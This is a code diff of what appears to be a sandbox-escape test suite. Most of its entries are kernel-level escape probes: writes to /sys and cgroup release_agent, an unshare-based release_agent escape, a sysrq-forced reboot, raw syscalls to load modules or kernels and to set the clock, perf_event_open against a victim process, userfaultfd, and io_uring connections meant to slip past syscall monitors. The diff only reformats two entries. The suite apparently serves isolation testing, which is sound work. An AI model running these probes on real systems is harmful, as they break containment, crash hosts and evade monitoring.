@@ -10,7 +10,8 @@ export const kernel: EscapeTheme = ({ key, home, mark, victim }) => ({
   'write to /sys, control groups and the parameters of modules': `for f in $(find /sys -maxdepth 5 -type f -writable 2>/dev/null | head -200) /sys/kernel/uevent_helper /sys/kernel/profiling /sys/fs/cgroup/cgroup.procs /sys/fs/cgroup/release_agent /sys/module/*/parameters/*; do v=$(cat "$f" 2>/dev/null); (printf "%s" "$v" > "$f") 2>/dev/null && ${WON} && echo "$f"; done; mkdir /sys/fs/cgroup/hermes 2>/dev/null && ${WON}; mkdir -p cg; mount -t cgroup2 none cg 2>/dev/null && ${WON}; mount -t cgroup -o rdma none cg 2>/dev/null && ${WON}; true`,
   'a control group in a namespace of its own, with an agent of release': `unshare -UrmC sh -c 'mkdir -p /tmp/cg && mount -t cgroup -o memory cgroup /tmp/cg && echo "touch ${mark}" > /tmp/cg/release_agent && ${WON}; mount -t cgroup2 none /tmp/cg && mkdir /tmp/cg/x && echo 1 > /tmp/cg/x/cgroup.procs && ${WON}' 2>/dev/null | grep canary`,
   'press the magic key': `(echo b > /proc/sysrq-trigger) 2>/dev/null && ${WON}; (echo 0 > /proc/sys/kernel/sysrq) 2>/dev/null && ${WON}; true`,
-  'load a module or another kernel': inC(`for n,args in ((175,(b"x",1,b"")),(313,(0,b"",0)),(246,(0,0,0,0)),(320,(0,0,0,b"",0)),(169,(0xfee1dead,672274793,0,0)),(170,(b"x",1)),(171,(b"x",1)),(163,(b"/x",)),(167,(b"/x",0))):
+  'load a module or another kernel':
+    inC(`for n,args in ((175,(b"x",1,b"")),(313,(0,b"",0)),(246,(0,0,0,0)),(320,(0,0,0,b"",0)),(169,(0xfee1dead,672274793,0,0)),(170,(b"x",1)),(171,(b"x",1)),(163,(b"/x",)),(167,(b"/x",0))):
   r=c.syscall(n,*args); won(n) if r==0 else print(n,os.strerror(ctypes.get_errno()))`),
   'set the clock': inC(`t=struct.pack("qq",0,0)
 for n,args in ((164,(t,None)),(227,(0,t))):
@@ -28,7 +29,9 @@ for t in (2,5,13):
 struct.pack_into("IIQ",a,0,1,128,0)
 for pid,cpu in ((-1,0),(${victim()},-1),(1,-1)):
   r=c.syscall(298,a,pid,cpu,-1,0); won((pid,cpu)) if r>=0 and pid!=1 else print(pid,os.strerror(ctypes.get_errno()))`),
-  'hold pages of the kernel by userfaultfd': inC(`r=c.syscall(323,0); print(r,os.strerror(ctypes.get_errno())); won("faults of the kernel are ours") if r>=0 and open("/proc/sys/vm/unprivileged_userfaultfd").read().strip()=="0" else None`),
+  'hold pages of the kernel by userfaultfd': inC(
+    `r=c.syscall(323,0); print(r,os.strerror(ctypes.get_errno())); won("faults of the kernel are ours") if r>=0 and open("/proc/sys/vm/unprivileged_userfaultfd").read().strip()=="0" else None`,
+  ),
   'open and connect by io_uring, past whoever watches calls': inC(`p=ctypes.create_string_buffer(120)
 r=c.syscall(425,4,p); print("io_uring",r,os.strerror(ctypes.get_errno()))
 if r>=0:
